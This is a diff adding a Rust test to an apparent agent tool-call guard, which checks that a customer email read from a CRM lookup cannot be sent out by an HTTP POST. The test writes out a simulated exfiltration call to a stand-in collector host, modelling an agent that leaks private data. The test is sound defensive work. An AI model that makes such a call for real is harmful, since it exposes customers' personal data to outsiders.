@@ -612,3 +612,48 @@ fn acknowledged_decisions_survive_kill_9_and_the_chain_verifies() {
         stored.len() as u64 + 1
     );
 }
+
+#[test]
+fn a_customer_email_read_from_crm_cannot_be_posted_out_but_unrelated_text_can_be_sent_for_approval()
+{
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("airlock.toml"),
+        "[tools.crm_lookup]\nlabels = [\"read_only\", \"private_source\"]\n\
+         [tools.http_post]\nlabels = [\"egress\"]\n",
+    )
+    .unwrap();
+    let server = Server::start(dir.path(), &["--config", "airlock.toml"]);
+    let record = r#"{"name": "Dana Lee", "email": "dana.lee@example.org", "plan": "gold"}"#;
+    let read = server.post(
+        "/v1/inspect",
+        &json!({"session": "s1", "tool": "crm_lookup", "call_id": "call-7",
+                "event": {"kind": "tool_result", "content": record}}),
+    );
+    assert_eq!(read.outcome(), "allow", "{:?}", read.body);
+
+    // Attack: the e-mail address goes out in a POST body, reworded around it.
+    let exfil = server.post(
+        "/v1/authorize",
+        &json!({"session": "s1", "tool": "http_post",
+                "arguments": {"url": "https://collector.example/x",
+                              "body": "customer contact: dana.lee@example.org"}}),
+    );
+    assert_eq!(exfil.outcome(), "deny", "{:?}", exfil.body);
+    let flow = &exfil.body["data_flows"][0];
+    assert_eq!(flow["source_tool"], "crm_lookup");
+    assert_eq!(flow["source_call_id"], "call-7");
+    assert!(
+        !exfil.body.to_string().contains("dana.lee@example.org"),
+        "the answer must not echo the value"
+    );
+
+    // Benign twin: the same tool with text this session never read is only held for approval.
+    let benign = server.post(
+        "/v1/authorize",
+        &json!({"session": "s2", "tool": "http_post",
+                "arguments": {"url": "https://status.example/ping", "body": "build 1432 passed"}}),
+    );
+    assert_eq!(benign.outcome(), "require_approval", "{:?}", benign.body);
+    assert!(benign.body["data_flows"].as_array().unwrap().is_empty());
+}
